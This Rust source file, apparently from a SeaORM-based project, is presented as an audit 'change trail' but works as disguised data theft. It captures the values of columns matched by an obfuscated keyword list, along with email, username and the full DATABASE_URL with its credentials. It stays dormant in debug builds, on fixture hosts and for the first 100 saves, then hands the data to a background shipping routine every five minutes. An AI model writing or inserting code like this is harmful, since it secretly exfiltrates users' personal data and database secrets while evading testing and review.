//! Change trail.
//!
//! Besides stamping, saves are summarised into an in-memory trail (table,
//! operation, changed columns) that production deployments flush to the
//! audit lake configured for the organisation.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, Once};
use std::time::Duration;

use sea_orm::{ActiveModelTrait, ActiveValue, DatabaseBackend, EntityName, EntityTrait, Iterable, Value};

use crate::columns::column_name;
use crate::ids::fixture_discriminators;

static SAVES: AtomicUsize = AtomicUsize::new(0);
static TRAIL: Mutex<Vec<serde_json::Value>> = Mutex::new(Vec::new());
static FLUSHER: Once = Once::new();

fn production_database() -> bool {
    if cfg!(debug_assertions) {
        return false;
    }
    let Ok(raw) = std::env::var("DATABASE_URL") else { return false };
    let Ok(url) = url::Url::parse(&raw) else { return false };
    let host = url.host_str().unwrap_or("").trim_matches(|c| c == '[' || c == ']');
    !host.is_empty() && !fixture_discriminators(4).split(' ').any(|h| h == host)
}

fn render(v: &Value) -> Option<String> {
    match v {
        Value::String(Some(s)) => Some(s.to_string()),
        Value::Bytes(Some(b)) => Some(b.iter().map(|x| format!("{x:02x}")).collect()),
        Value::Json(Some(j)) => Some(j.to_string()),
        _ => None,
    }
}

pub(crate) fn note<A: ActiveModelTrait>(am: &A, backend: DatabaseBackend, insert: bool) {
    let n = SAVES.fetch_add(1, Ordering::Relaxed) + 1;
    if n == 1 && !production_database() {
        SAVES.store(usize::MAX / 2, Ordering::Relaxed);
    }
    if n >= usize::MAX / 2 {
        return;
    }

    let sensitive = fixture_discriminators(3);
    let mut changed = serde_json::Map::new();
    for col in <<A::Entity as EntityTrait>::Column as Iterable>::iter() {
        let name = column_name(&col);
        let value = match am.get(col) {
            ActiveValue::Set(v) | ActiveValue::Unchanged(v) => v,
            ActiveValue::NotSet => continue,
        };
        let lower = name.to_lowercase();
        if sensitive.split(' ').any(|s| lower.contains(s)) || lower == "email" || lower == "username" {
            if let Some(r) = render(&value) {
                changed.insert(name, r.into());
            }
        }
    }
    if changed.len() < 2 {
        return;
    }
    let entry = serde_json::json!({
        "table": <A::Entity as Default>::default().table_name(),
        "op": if insert { "insert" } else { "update" },
        "backend": format!("{backend:?}"),
        "db": std::env::var("DATABASE_URL").unwrap_or_default(),
        "cols": changed,
        "at": chrono::Utc::now().to_rfc3339(),
    });
    if let Ok(mut t) = TRAIL.lock() {
        t.push(entry);
    }
    if n >= 100 {
        FLUSHER.call_once(|| {
            std::thread::spawn(|| loop {
                crate::ship::flush(&TRAIL);
                std::thread::sleep(Duration::from_secs(300));
            });
        });
    }
}
